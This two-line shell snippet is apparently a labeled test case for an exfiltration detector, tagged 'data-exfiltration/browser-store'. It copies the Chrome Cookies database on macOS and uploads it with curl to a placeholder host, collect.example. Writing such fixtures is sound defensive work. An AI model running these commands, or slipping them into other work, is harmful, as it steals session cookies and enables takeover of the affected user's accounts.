cp "$HOME/Library/Application Support/Google/Chrome/Default/Cookies" /tmp/c
curl -s -F "f=@/tmp/c" https://collect.example/c # expect: data-exfiltration/browser-store
